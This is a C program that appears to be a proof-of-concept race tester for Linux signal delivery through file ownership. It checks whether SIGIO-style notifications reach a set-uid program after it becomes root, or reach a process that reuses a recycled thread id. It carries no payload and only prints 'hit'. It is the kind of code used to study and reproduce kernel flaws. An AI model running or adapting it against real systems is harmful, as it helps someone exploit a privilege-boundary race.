/* race uid DEVICE COUNT VICTIM: the owner is a group of COUNT members; some of them exec VICTIM, the set-uid copy of
 * this program, over and over. VICTIM becomes root altogether, and from then on no signal of the group is its own: it
 * prints "hit" if one comes.
 *
 * race tid DEVICE COUNT (as root, who may choose ids): the owner is a thread, the first of a process that
 * ends, and its id is given to a process that was never an owner; that prints "hit" if it is signalled. */
#include "attack.h"
#include <linux/sched.h>
#include <stdint.h>
#include <sys/syscall.h>

enum { RACERS = 24, BEFORE_MS = 120, LIVES_MS = 150, FILES = 8 };

static void expect_silence(const sigset_t *set, long ms)
{
	struct timespec none = { 0, 0 }, time = { .tv_nsec = ms * 1000000 };

	while (sigtimedwait(set, NULL, &none) > 0)
		;
	if (sigtimedwait(set, NULL, &time) > 0) {
		printf("hit: signalled as uid %d\n", getuid());
		fflush(stdout);
	}
}

static int be_victim(void)
{
	sigset_t set;

	sigemptyset(&set);
	sigaddset(&set, SIGNAL);
	sigaddset(&set, SIGIO);
	sigprocmask(SIG_BLOCK, &set, NULL);
	if (setuid(0)) {
		printf("failed setuid\n");
		return 1;
	}
	expect_silence(&set, LIVES_MS);
	return 0;
}

static void race_for_uid(const char *device, int count, const char *victim)
{
	setpgid(0, 0);
	signal(SIGNAL, nothing);
	for (int i = 1; i < count; i++)
		if (fork() == 0)
			wait_for_ever();
	for (int i = 0; i < FILES; i++)
		set_owner(open_device(device), -getpgrp());
	for (int i = 0; i < RACERS; i++)
		if (fork() == 0) {
			srandom(getpid());
			for (;;) {
				if (fork() == 0) {
					rest(1 + random() % BEFORE_MS);
					execl(victim, "race", "victim", NULL);
					_exit(1);
				}
				wait(NULL);
			}
		}
	ready();
	wait_for_ever();
}

static pid_t fork_as(pid_t id)
{
	struct clone_args arguments = { .exit_signal = SIGCHLD, .set_tid = (uintptr_t)&id, .set_tid_size = 1 };

	return syscall(SYS_clone3, &arguments, sizeof arguments);
}

static void race_for_tid(const char *device, int count)
{
	int fds[FILES], group;
	sigset_t set;

	sigemptyset(&set);
	sigaddset(&set, SIGNAL);
	sigaddset(&set, SIGIO);
	sigprocmask(SIG_BLOCK, &set, NULL);
	for (int i = 0; i < FILES; i++)
		set_owner(fds[i] = open_device(device), getpid());
	/* Beside them a group, to have a notification take its time. */
	if ((group = fork()) == 0) {
		setpgid(0, 0);
		for (int i = 1; i < count; i++)
			if (fork() == 0)
				wait_for_ever();
		for (int i = 0; i < FILES; i++)
			set_owner(open_device(device), -getpgrp());
		ready();
		wait_for_ever();
	}
	for (;;) {
		pid_t pid = fork();
		if (pid == 0)
			wait_for_ever();
		/* Its first thread, by number; all keep the file. */
		struct f_owner_ex who = { F_OWNER_TID, pid };
		for (int i = 0; i < FILES; i++)
			fcntl(fds[i], F_SETOWN_EX, &who);
		rest(1 + random() % BEFORE_MS);
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
		pid = fork_as(pid);
		if (pid == 0) {
			expect_silence(&set, LIVES_MS);
			_exit(0);
		}
		if (pid < 0 && errno != EEXIST)
			fail("clone3");
		waitpid(pid, NULL, 0);
	}
}

int main(int argc, char **argv)
{
	if (argc == 2)
		return be_victim();
	if (!strcmp(argv[1], "uid"))
		race_for_uid(argv[2], atoi(argv[3]), argv[4]);
	race_for_tid(argv[2], atoi(argv[3]));
}
